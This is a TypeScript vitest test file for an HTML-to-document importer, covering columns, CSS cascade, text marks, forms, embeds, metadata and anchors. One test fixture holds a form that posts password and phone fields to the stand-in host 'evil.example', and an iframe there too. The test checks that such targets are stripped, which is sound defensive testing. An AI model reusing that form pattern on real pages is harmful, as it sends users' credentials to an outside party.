import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { BlockRecord } from "@vitrine/document";
import { expect, test } from "vitest";
import { documentFrom } from "../../../platform/documents/document-input.ts";
import { buildDocument } from "./build-document.ts";
import type { Piece } from "./piece.ts";
import { type ReadPage, readPage } from "./read-page.ts";

const PAGES = join(import.meta.dirname, "../testing/pages");

function read(html: string): ReadPage {
  const page = readPage({ html, origin: { kind: "file", path: "index.html" }, language: "pt", textOf: () => null, hasFile: () => true });
  if (!page) throw new Error("it is no page");
  return page;
}

function blocksOf(page: ReadPage): BlockRecord[] {
  const { records } = documentFrom(buildDocument(page, new Map()));
  return Object.values(records).flatMap((record) => (record.type === "block" ? [record] : []));
}

const blocks = (html: string): BlockRecord[] => blocksOf(read(html));
const kinds = (html: string): string[] => blocks(html).map(({ kind }) => kind);
const firstOf = (html: string, kind: string): BlockRecord | undefined => blocks(html).find((block) => block.kind === kind);
const noticesOf = (html: string) =>
  Object.fromEntries(
    read(html)
      .notes.all()
      .map(({ code, count }) => [code, count]),
  );
const text = (words: string) => ({ type: "text", text: words });

test.each(["agency", "tailwind", "letter", "business", "article"])("of a page as there are many, %s, nothing is lost unsaid", (name) => {
  const page = read(readFileSync(join(PAGES, `${name}.html.txt`), "utf8"));
  expect(page.words.kept / page.words.found).toBeGreaterThanOrEqual(0.95);
  const notices = Object.fromEntries(page.notes.all().map(({ code, count }) => [code, count]));
  expect(page.links.found - page.links.kept).toBe((notices.unsafe_link ?? 0) + (notices.lost_link ?? 0));
  const places = (pieces: readonly Piece[]): number =>
    pieces.reduce(
      (sum, { picture, slots }) => sum + (picture ? 1 : 0) + Object.values(slots ?? {}).reduce((all, each) => all + places(each), 0),
      0,
    );
  expect(page.foundPictures - places(page.sections)).toBe(notices.picture ?? 0);
  expect(blocksOf(page).length).toBeGreaterThan(8);
});

test("what stands side by side becomes columns, by classes and by style sheets alike", () => {
  const cards = (each: string) => Array.from({ length: 4 }, (_, index) => `<div class="${each}"><h3>${index}</h3><p>a</p></div>`).join("");
  const rowsOf = (html: string) => {
    const all = blocks(html);
    return all.filter(({ kind }) => kind === "columns").map(({ id }) => all.filter(({ parentId }) => parentId === id).length);
  };
  expect(rowsOf(`<div class="row">${cards("col-md-6")}</div>`)).toEqual([2, 2]);
  expect(rowsOf(`<div class="row">${cards("col-6 col-lg-3")}</div>`)).toEqual([4]);
  expect(rowsOf(`<style>.g{display:grid;grid-template-columns:repeat(2,1fr)}</style><div class="g">${cards("")}</div>`)).toEqual([2, 2]);
  expect(rowsOf(`<div class="grid md:grid-cols-3">${cards("")}</div>`)).toEqual([3, 1]);
  expect(rowsOf(`<div style="display:flex">${cards("")}</div>`)).toEqual([4]);
  expect(rowsOf(`<div style="display:flex;flex-direction:column">${cards("")}</div>`)).toEqual([]);
});

test("styles come by the rules of style sheets: the more special wins, then the later, then what is marked", () => {
  const styled = (css: string, attributes = "") => {
    const block = firstOf(`<style>${css}</style><div id="b"><p class="a" ${attributes}>x</p></div>`, "text");
    const color = block?.styles.base?.normal?.color;
    return color?.type === "color" ? color.value : null;
  };
  expect(styled("#b .a{color:#110000}.a{color:#220000}")).toBe("#110000");
  expect(styled(".a{color:#110000}.a{color:#220000}")).toBe("#220000");
  expect(styled(".a{color:#110000!important}#b .a{color:#220000}", 'style="color:#330000"')).toBe("#110000");
  expect(styled(":root{--x:rgb(1 2 3)}.a{color:var(--x)}")).toBe("#010203");
  expect(styled("#b>p{color:red}")).toBe("#ff0000");
  expect(styled("body>p{color:red}")).toBeNull();
  expect(styled("@media (max-width:600px){.a{color:red}}")).toBeNull();
  expect(styled("@media (min-width:600px){.a{color:red}}")).toBe("#ff0000");
  expect(styled(".a:hover{color:red}")).toBeNull();
});

test("words keep their marks and links, and space is what a browser shows", () => {
  const content = firstOf('<p>  Oi,\n  <b>Ana</b> <a href="https://example.com/x" target="_blank">veja<i> já</i></a><br>  fim </p>', "text")
    ?.props.content;
  const link = { type: "link", attrs: { href: "https://example.com/x", newTab: true } };
  expect(content).toEqual([
    {
      type: "paragraph",
      content: [
        text("Oi, "),
        { ...text("Ana"), marks: [{ type: "bold" }] },
        text(" "),
        { ...text("veja"), marks: [link] },
        { ...text(" já"), marks: [link, { type: "italic" }] },
        { type: "hardBreak" },
        text("fim"),
      ],
    },
  ]);
});

test("a form keeps what it asks, and nothing of where it sent that", () => {
  const html = `<form action="https://evil.example/take" onsubmit="x()"><input name="whatsapp" placeholder="Celular" required><input type="password" name="p">
    <select name="uf"><option value="">Escolha</option><option>SP</option><option>RJ</option></select>
    <label><input type="checkbox" name="i" value="a"> Um</label><label><input type="checkbox" name="i" value="b"> Dois</label>
    <textarea id="msg"></textarea><input type="hidden" name="src" value="fb"><button>Quero</button></form>`;
  const fields = blocks(html).filter(({ kind }) => kind === "field");
  expect(fields.map(({ props: { input, name, isRequired } }) => [input, name, isRequired])).toEqual([
    ["phone", "whatsapp", true],
    ["select", "uf", false],
    ["checkboxes", "i", false],
    ["textarea", "msg", false],
    ["hidden", "src", false],
  ]);
  expect(fields[1]?.props.options).toEqual(["SP", "RJ"]);
  expect(fields[2]?.props.options).toEqual(["Um", "Dois"]);
  expect(firstOf(html, "form")?.props.submitLabel).toBe("Quero");
  expect(noticesOf(html)).toMatchObject({ form_target: 1, handler: 1, field: 1 });
  expect(JSON.stringify(blocks(html))).not.toContain("evil.example");
});

test("films of known services are shown, and what else stands in a frame is told of", () => {
  const html = `<iframe src="https://www.youtube.com/embed/aqz-KE-bpKQ"></iframe><iframe src="//player.vimeo.com/video/76979871"></iframe>
    <iframe src="https://open.spotify.com/embed/track/4uLU6hMCjMI75M1A2tKUQC"></iframe><iframe src="https://evil.example/x"></iframe><video src="film.mp4"></video>`;
  expect(kinds(html).filter((kind) => kind !== "section")).toEqual(["video", "video", "embed"]);
  expect(noticesOf(html)).toMatchObject({ frame: 1, media: 1 });
});

test("what a page says of itself is its page's", () => {
  const { facts } = read(
    `<html lang="es-MX"><head><title> Uma   página </title><meta name="description" content="${"a".repeat(300)}"><meta name="robots" content="noindex"><link rel="icon" href="i.svg"><link rel="icon" href="i.png"><meta property="og:image" content="https://example.com/s.png"></head><body><p>x</p></body></html>`,
  );
  expect(facts).toEqual({
    title: "Uma página",
    description: expect.stringMatching(/^a{155}$|^a{154}/),
    language: "es",
    favicon: "i.png",
    shareImage: "https://example.com/s.png",
    isHiddenFromSearch: true,
    isProtected: false,
  });
});

test("the tokens of a page are its own colours and typefaces", () => {
  const page = read(
    "<style>body{color:#333;background:#fffaf0;font-family:'Lora',serif}h1,h2{color:navy;font-family:Outfit}.btn{background:#e11d48;color:#fff}</style><h1>a</h1><h2>b</h2><p>c</p><a class=btn href=/x>d</a>",
  );
  const { records } = buildDocument(page, new Map());
  const value = (id: string) => (records[id]?.type === "token" ? records[id].value : null);
  const ids = ["color-text", "color-heading", "color-background", "color-button", "color-on-button", "font-text", "font-heading"];
  expect(ids.map(value)).toEqual(["#333333", "#000080", "#fffaf0", "#e11d48", "#ffffff", "lora", "outfit"]);
  expect(Object.values(records).flatMap((record) => (record.type === "block" && record.styles.base ? [record.kind] : []))).toEqual([]);
});

test("a link within the page leads to the block that it led to", () => {
  expect(
    firstOf('<a href="#p">Planos</a><section id="p"><p>x</p></section><section id="q"><p>y</p></section>', "section")?.anchor,
  ).toBeUndefined();
  const anchors = blocks('<a href="#p">Planos</a><section id="p"><p>x</p></section><section id="q"><p>y</p></section>').flatMap(
    ({ anchor }) => anchor ?? [],
  );
  expect(anchors).toEqual(["p"]);
});
